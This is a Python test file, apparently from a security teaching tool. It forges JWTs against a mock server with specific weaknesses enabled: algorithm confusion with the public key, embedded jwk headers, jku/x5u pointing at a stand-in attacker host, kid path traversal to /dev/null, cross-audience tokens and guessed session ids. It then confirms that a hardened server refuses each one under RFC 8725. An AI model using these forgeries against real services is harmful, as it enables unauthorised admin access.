"""Attacks that broke real JWT libraries: each succeeds against the server with its
weakness switched on, and fails against the normal server at the stage (and with the
RFC 8725 section) that stops it. Every token travels the real HTTP path, through the app.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import jwt
import pytest

from tests.conftest import ServerFactory
from tests.server.helpers import ALICE, bearer, bearer_login
from tests.server.test_jwt import claims_of, header_of
from tutor.jwtcheck.attacker import attacker_key
from tutor.server import MockServer
from tutor.server.attacker_keys import ATTACKER_CERT_URL, ATTACKER_JWKS_URL
from tutor.server.events import KeysFetched, SignatureChecked
from tutor.server.keys import pem_from_jwk
from tutor.server.naive import sign_hmac

ASYMMETRIC = ["RS256", "PS256", "ES256", "EdDSA"]


async def admin_with(server: MockServer, forge: Any) -> httpx.Response:
    """Log alice in, forge a token from hers with `forge(server, client, token)`, and
    send it to /admin."""
    async with server.client() as client:
        token = (await bearer_login(client))["access_token"]
        forged = await forge(server, client, token)
        return await client.get("/admin", headers=bearer(forged))


def refused(response: httpx.Response, stage: str, section: str) -> None:
    assert response.status_code == 401, response.text
    body = response.json()
    assert body["stage"] == stage, body
    assert f"RFC 8725 {section}" in body["error_description"], body


def as_admin(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    return header_of(token), {**claims_of(token), "role": "admin"}


# --- algorithm confusion ---------------------------------------------------------------


async def public_key_as_secret(server: MockServer, client: httpx.AsyncClient, token: str,
                               ) -> str:
    """The attack as the learner does it: download the JWKS, turn the key into PEM, and
    HMAC-sign an HS256 token with those bytes."""
    jwks = (await client.get("/.well-known/jwks.json")).json()
    pem = pem_from_jwk(jwks["keys"][0])
    header, claims = as_admin(token)
    return sign_hmac(header, claims, pem, "HS256")


@pytest.mark.parametrize("algorithm", ASYMMETRIC)
async def test_algorithm_confusion(make_server: ServerFactory, algorithm: str) -> None:
    vulnerable = make_server(mode="jwt", algorithm=algorithm, vulnerabilities=_on("alg_confusion"))
    response = await admin_with(vulnerable, public_key_as_secret)
    assert response.status_code == 200, response.text
    assert response.json() == {"area": "admin", "username": "alice"}
    checked = [e for e in vulnerable.log.events if isinstance(e, SignatureChecked) and e.ok]
    assert "public key (PEM)" in str(checked[-1].key_source)

    fixed = make_server(mode="jwt", algorithm=algorithm)
    refused(await admin_with(fixed, public_key_as_secret), "algorithm", "§3.1")


async def test_algorithm_confusion_with_the_jwk_as_served(make_server: ServerFactory) -> None:
    """A naive library given the JWK's JSON text as "the key" falls the same way."""

    async def jwk_text(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
        raw = (await client.get("/.well-known/jwks.json")).json()["keys"][0]
        header, claims = as_admin(token)
        return sign_hmac(header, claims, json.dumps(raw, separators=(",", ":")).encode())

    server = make_server(mode="jwt", algorithm="EdDSA", vulnerabilities=_on("alg_confusion"))
    assert (await admin_with(server, jwk_text)).status_code == 200


async def test_algorithm_confusion_needs_the_right_public_key(make_server: ServerFactory) -> (
    None
):
    async def wrong_key(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
        header, claims = as_admin(token)
        return sign_hmac(header, claims, b"a guess at the key")

    server = make_server(mode="jwt", algorithm="ES256", vulnerabilities=_on("alg_confusion"))
    response = await admin_with(server, wrong_key)
    assert response.status_code == 401
    assert response.json()["stage"] == "signature"


# --- a key embedded in the token -------------------------------------------------------


async def embedded_jwk(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
    own = attacker_key(server.config.algorithm)
    header, claims = as_admin(token)
    header = {**header, "jwk": own.public_jwk, "kid": own.kid}
    return jwt.encode(claims, own.private_key, algorithm=own.algorithm, headers=header)


@pytest.mark.parametrize("algorithm", ["ES256", "EdDSA", "RS256"])
async def test_embedded_jwk(make_server: ServerFactory, algorithm: str) -> None:
    vulnerable = make_server(mode="jwt", algorithm=algorithm,
                             vulnerabilities=_on("trust_jwk_header"))
    assert (await admin_with(vulnerable, embedded_jwk)).status_code == 200
    fixed = make_server(mode="jwt", algorithm=algorithm)
    refused(await admin_with(fixed, embedded_jwk), "key", "§3.8")


# --- keys fetched from the token's jku or x5u URL -------------------------------------


def pointing_to(name: str, url: str) -> Any:
    async def forge(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
        own = attacker_key(server.config.algorithm)
        header, claims = as_admin(token)
        header = {**header, name: url, "kid": own.kid}
        return jwt.encode(claims, own.private_key, algorithm=own.algorithm, headers=header)
    return forge


@pytest.mark.parametrize("algorithm", ["ES256", "EdDSA"])
async def test_jku_header(make_server: ServerFactory, algorithm: str) -> None:
    vulnerable = make_server(mode="jwt", algorithm=algorithm,
                             vulnerabilities=_on("trust_jku_header"))
    assert (await admin_with(vulnerable, pointing_to("jku", ATTACKER_JWKS_URL))).status_code \
        == 200
    fetched = [e for e in vulnerable.log.events if isinstance(e, KeysFetched)]
    assert fetched[-1].url == ATTACKER_JWKS_URL and fetched[-1].found
    fixed = make_server(mode="jwt", algorithm=algorithm)
    refused(await admin_with(fixed, pointing_to("jku", ATTACKER_JWKS_URL)), "key", "§3.10")
    assert not [e for e in fixed.log.events if isinstance(e, KeysFetched)]


async def test_x5u_header(make_server: ServerFactory) -> None:
    vulnerable = make_server(mode="jwt", algorithm="EdDSA",
                             vulnerabilities=_on("trust_jku_header"))
    assert (await admin_with(vulnerable, pointing_to("x5u", ATTACKER_CERT_URL))).status_code \
        == 200
    fixed = make_server(mode="jwt", algorithm="EdDSA")
    refused(await admin_with(fixed, pointing_to("x5u", ATTACKER_CERT_URL)), "key", "§3.10")


async def test_jku_anywhere_else_finds_nothing(make_server: ServerFactory) -> None:
    """The simulated fetch reaches evil.test only: no request ever leaves the machine."""
    server = make_server(mode="jwt", algorithm="EdDSA", vulnerabilities=_on("trust_jku_header"))
    response = await admin_with(server, pointing_to("jku", "https://example.com/keys"))
    assert response.status_code == 401
    assert response.json()["stage"] == "key"


# --- kid names a file ------------------------------------------------------------------


async def kid_dev_null(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
    header, claims = as_admin(token)
    return sign_hmac({**header, "kid": "../../../../dev/null"}, claims, b"")


async def test_kid_path_injection(make_server: ServerFactory) -> None:
    vulnerable = make_server(mode="jwt", vulnerabilities=_on("kid_path_injection"))
    response = await admin_with(vulnerable, kid_dev_null)
    assert response.status_code == 200, response.text
    checked = [e for e in vulnerable.log.events if isinstance(e, SignatureChecked) and e.ok]
    assert checked[-1].key_source == "the file /dev/null (0 bytes)"
    fixed = make_server(mode="jwt")
    refused(await admin_with(fixed, kid_dev_null), "key", "§3.10")


async def test_kid_path_server_still_accepts_its_own_tokens(make_server: ServerFactory) -> (
    None
):
    server = make_server(mode="jwt", vulnerabilities=_on("kid_path_injection"))
    async with server.client() as client:
        token = (await bearer_login(client))["access_token"]
        assert (await client.get("/profile", headers=bearer(token))).status_code == 200


# --- a token minted for another service ------------------------------------------------


async def photos_token(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
    response = await client.post("/login", json={**ALICE, "audience": "photos-api"})
    assert response.status_code == 200, response.text
    minted: str = response.json()["access_token"]
    assert claims_of(minted)["aud"] == "photos-api"
    return minted


async def test_token_for_another_audience(make_server: ServerFactory) -> None:
    vulnerable = make_server(mode="jwt", vulnerabilities=_on("no_audience_check"))
    assert (await admin_with(vulnerable, photos_token)).status_code == 200
    fixed = make_server(mode="jwt")
    refused(await admin_with(fixed, photos_token), "claims", "§3.9")


async def test_unknown_audience_is_refused_at_login(make_server: ServerFactory) -> None:
    server = make_server(mode="jwt")
    async with server.client() as client:
        response = await client.post("/login", json={**ALICE, "audience": "bank-api"})
    assert response.status_code == 400
    assert response.json()["error"] == "invalid_target"


# --- predictable session ids (cookie mode) ---------------------------------------------


async def neighbour_session(server: MockServer) -> httpx.Response:
    """Alice logs in; the attacker logs in as bob, reads his own id and tries the one
    before it."""
    async with server.client() as alice, server.client() as attacker:
        await alice.post("/login", data=ALICE)
        await attacker.post("/login", data={"username": "bob", "password": "builder123"})
        own = attacker.cookies["sid"]
        guesses = [f"{int(own) - n:08d}" for n in (1, 2)] if own.isdigit() else [own[::-1]]
        for guess in guesses:
            attacker.cookies.clear()
            response = await attacker.get("/profile", headers={"Cookie": f"sid={guess}"})
            if response.status_code == 200:
                return response
        return response


async def test_predictable_session_ids(make_server: ServerFactory) -> None:
    vulnerable = make_server(mode="cookie", vulnerabilities=_on("predictable_session_ids"))
    response = await neighbour_session(vulnerable)
    assert response.status_code == 200
    assert response.json()["username"] == "alice"
    fixed = make_server(mode="cookie")
    assert (await neighbour_session(fixed)).status_code == 401


def _on(name: str) -> Any:
    from tutor.server.config import Vulnerabilities

    return Vulnerabilities(**{name: True})


async def test_evil_test_serves_what_the_vulnerable_server_fetches() -> None:
    """The attacker's site publishes the same key set and certificate that the simulated
    jku/x5u fetch returns (a browser can look at them; the server never goes online)."""
    from tutor.clock import SimulatedClock
    from tutor.server.attacker import AttackerSite
    from tutor.server.attacker_keys import fetch_keys

    site = AttackerSite(SimulatedClock())
    transport = httpx.ASGITransport(app=site.app)
    async with httpx.AsyncClient(transport=transport, base_url="https://evil.test") as client:
        jwks = await client.get("/.well-known/jwks.json")
        cert = await client.get("/cert.pem")
    assert jwks.json() == fetch_keys(ATTACKER_JWKS_URL)
    assert cert.text == fetch_keys(ATTACKER_CERT_URL)
    assert attacker_key("EdDSA").kid in {k["kid"] for k in jwks.json()["keys"]}
    assert fetch_keys("https://evil.test.example.com/.well-known/jwks.json") is None


@pytest.mark.parametrize("algorithm", ASYMMETRIC)
async def test_the_editors_jku_token_works_on_the_jku_server_only(
        make_server: ServerFactory, algorithm: str) -> None:
    """The Repeater's JWT editor signs with its own attacker key and points `jku` at
    evil.test: the same evil.test the vulnerable server fetches lists that key."""
    from tutor.repeater import jwt_editor

    async def forge(server: MockServer, client: httpx.AsyncClient, token: str) -> str:
        header, claims = as_admin(token)
        header = jwt_editor.with_attacker_jku(header, algorithm)
        return jwt_editor.re_sign(header, claims, algorithm)

    vulnerable = make_server(mode="jwt", algorithm=algorithm,
                             vulnerabilities=_on("trust_jku_header"))
    assert (await admin_with(vulnerable, forge)).status_code == 200
    refused(await admin_with(make_server(mode="jwt", algorithm=algorithm), forge),
            "key", "§3.10")
